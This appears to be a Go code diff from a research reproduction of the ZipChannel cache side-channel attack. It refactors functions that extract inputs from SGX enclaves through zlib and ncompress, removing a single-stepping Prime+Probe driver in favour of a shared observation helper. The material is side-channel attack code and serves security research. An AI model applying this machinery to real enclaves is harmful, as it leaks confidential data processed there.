@@ -5,58 +5,16 @@ import (
 	"time"
 
 	"github.com/zipchannel/zipchannel/internal/recovery"
-	"github.com/zipchannel/zipchannel/internal/sgx"
 	"github.com/zipchannel/zipchannel/internal/victims"
 )
 
 // This file extends the paper's §V attack to the other two surveyed
 // gadgets. §IV-E establishes that zlib's head[ins_h] and ncompress's
 // htab[hp] leak the input through the same channel; the paper
-// demonstrates the end-to-end extraction only for bzip2. With the
-// generalized two-array stepper (sgx.Stepper2) the identical machinery —
+// demonstrates the end-to-end extraction only for bzip2. Stepping their
+// two-array loops (zlibRing, lzwRing) through the same rig loop —
 // controlled-channel single-stepping, page identification, Prime+Probe
 // with CAT and frame selection — extracts their inputs too.
-
-// runStepper2 drives a two-array single-stepping attack and returns, per
-// loop iteration, the observed cache-line offset from tableVA
-// (recovery.UnknownObservation for ambiguous probes).
-func runStepper2(r *rig, st *sgx.Stepper2, tableVA uint64) ([]int64, error) {
-	page, ok, err := st.Start()
-	if err != nil {
-		return nil, fmt.Errorf("zipchannel: start: %w", err)
-	}
-	var obs []int64
-	for ok {
-		ps, err := r.pageFor(page)
-		if err != nil {
-			return nil, err
-		}
-		curPage := page
-		lineOff := recovery.UnknownObservation
-		nextPage, done, err := st.Step(
-			func() { r.prime(ps) },
-			func() {
-				if line := r.probeLine(ps); line >= 0 {
-					lineVA := curPage + uint64(line*r.c.Config().LineSize)
-					lineOff = int64(lineVA) - int64(tableVA)
-				} else {
-					r.unknownObs.Inc()
-				}
-				r.iterations.Inc()
-				r.publish()
-			},
-		)
-		if err != nil {
-			return nil, fmt.Errorf("zipchannel: step: %w", err)
-		}
-		obs = append(obs, lineOff)
-		if done {
-			break
-		}
-		page = nextPage
-	}
-	return obs, nil
-}
 
 // ZlibAttack extracts the input the enclave feeds through the zlib
 // INSERT_STRING gadget (Listing 1): each single-stepped iteration leaks
@@ -73,13 +31,7 @@ func ZlibAttack(input []byte, charsetHigh3 byte, haveCharset bool, cfg Config) (
 	if err != nil {
 		return nil, err
 	}
-	st := sgx.NewStepper2(r.enc, "window", "head", true /* head is store-only */)
-	st.AttachObs(r.reg)
-	st.OnTransition = r.injectNoise
-	r.dryTransition = st.DryTransition
-
-	head := prog.MustSymbol("head")
-	offs, err := runStepper2(r, st, head.Addr)
+	offs, err := r.observe(zlibRing, zlibTable, len(input))
 	if err != nil {
 		return nil, err
 	}
@@ -163,13 +115,7 @@ func LZWAttack(input []byte, cfg Config) (*Result, error) {
 	if err != nil {
 		return nil, err
 	}
-	st := sgx.NewStepper2(r.enc, "inputbuf", "htab", false /* probes are loads */)
-	st.AttachObs(r.reg)
-	st.OnTransition = r.injectNoise
-	r.dryTransition = st.DryTransition
-
-	htab := prog.MustSymbol("htab")
-	offs, err := runStepper2(r, st, htab.Addr)
+	offs, err := r.observe(lzwRing, lzwTable, len(input))
 	if err != nil {
 		return nil, err
 	}
